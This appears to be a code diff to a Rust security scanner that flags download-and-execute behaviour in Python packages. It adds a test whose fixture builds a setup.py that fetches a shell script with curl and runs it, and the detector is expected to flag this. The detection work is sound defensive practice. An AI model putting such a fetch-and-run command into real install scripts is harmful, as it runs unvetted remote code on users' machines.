@@ -198,13 +198,9 @@ fn runs_a_written_name(code: &crate::inspect::python::PyFile, run: &Call) -> boo
     })
 }
 
-/// `curl`/`wget` run as a program: another download, not a launch of what was fetched.
+/// `curl`/`wget`/`git` run as a program: another download, not a launch of what was fetched.
 fn fetch_tool(c: &Call) -> bool {
-    c.arg_strs.first().is_some_and(|a| {
-        let word = a.split_whitespace().next().unwrap_or("");
-        let word = word.rsplit(['/', '\\']).next().unwrap_or(word);
-        matches!(word, "curl" | "wget" | "curl.exe" | "wget.exe") && !vocab::is_strong_command(a)
-    })
+    c.arg_strs.first().is_some_and(|a| vocab::fetch_only_command(a))
 }
 
 /// A launch that runs `pip install …` (`[sys.executable, "-m", "pip", "install", …]`).
@@ -522,6 +518,17 @@ mod tests {
         );
         let f = check(&DownloadExecute, Kind::Wheel, &[("pkg/core.py", &exe)]);
         assert_eq!((f.len(), f[0].severity), (1, Severity::High), "{f:?}");
+        // A build that downloads a source tarball and updates a git checkout launches nothing fetched.
+        let build = "import urllib.request, subprocess\nurllib.request.urlretrieve('https://x.example/src.tar.gz', 'src.tar.gz')\nsubprocess.run('cd mupdf && git pull && git submodule update --init', shell=True)\n";
+        let f = crate::inspect::testing::setup_py(&DownloadExecute, build);
+        assert!(f.iter().all(|f| f.severity < Severity::Critical), "{f:?}");
+        // …while a fetched script run by the shell is a launch.
+        let run = build.replace(
+            "cd mupdf && git pull && git submodule update --init",
+            "curl -o i.sh https://x && sh i.sh",
+        );
+        let f = crate::inspect::testing::setup_py(&DownloadExecute, &run);
+        assert!(f.iter().any(|f| f.severity >= Severity::High), "{f:?}");
         // An extension on its own is not a program's name (`exe_ext = ".exe"`).
         assert!(!names_program(".exe") && names_program("C:\\t\\svc.exe") && names_program("https://x/a.bat?dl=1"));
     }
